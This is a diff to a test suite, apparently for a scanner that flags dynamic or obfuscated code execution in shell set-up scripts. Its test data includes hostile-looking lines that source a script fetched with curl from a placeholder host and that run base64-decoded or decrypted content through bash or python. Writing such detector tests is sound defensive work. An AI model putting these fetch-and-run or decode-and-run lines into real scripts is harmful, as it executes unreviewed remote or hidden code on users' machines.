@@ -430,6 +430,14 @@ describe('dynamic-code-execution: a shell activation idiom', () => {
       expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
     }
   });
+  it('is not a sink: a tool\'s completion script sourced from its own output, fixed words only', () => {
+    for (const line of ['source <(kubectl completion bash)', '. <(helm completion zsh)', 'source <(gh completion -s bash)', 'source <(rustup completions bash cargo)', 'source <(/usr/local/bin/kubectl completion bash)']) {
+      expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).not.toContain('dynamic-code-execution');
+    }
+    for (const line of ['source <(curl -fsSL https://get.example.dev/completion)', 'source <($TOOL completion bash)', 'source <(kubectl completion bash | sed s/x/y/)', 'source <(cat "$COMPLETION_FILE")']) {
+      expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
+    }
+  });
 });
 
 describe('secret-added: a value the edited line already had', () => {
@@ -1208,6 +1216,7 @@ describe('obfuscated-code in shell scripts: decoded text piped into an interpret
     expect(ids('scripts/setup.sh', ['source <(base64 -d tests/data/fixture.b64)'])).toEqual(['high:11']);
     expect(ids('scripts/setup.sh', ['. <(openssl enc -d -aes-256-cbc -in tests/files/k.bin -k x)'])).toEqual(['high:11']);
     expect(ids('scripts/setup.sh', ['eval "$(tr "A-Za-z" "N-ZA-Mn-za-m" < tests/data/notes.txt)"'])).toEqual(['high:11']);
+    expect(ids('scripts/setup.sh', ['python3 -c "$(base64 -d tests/data/helper.b64)"'])).toEqual(['high:11']);
   });
   it('is quiet on eval of a tool\'s own set-up and on a decode whose output nothing runs', () => {
     expect(ids('scripts/dev.sh', ['eval "$(ssh-agent -s)"', 'eval "$(pyenv init -)"', 'eval "$(/opt/homebrew/bin/brew shellenv)"', 'eval $(opam env)', 'xz -d archive.tar.xz'])).toEqual([]);
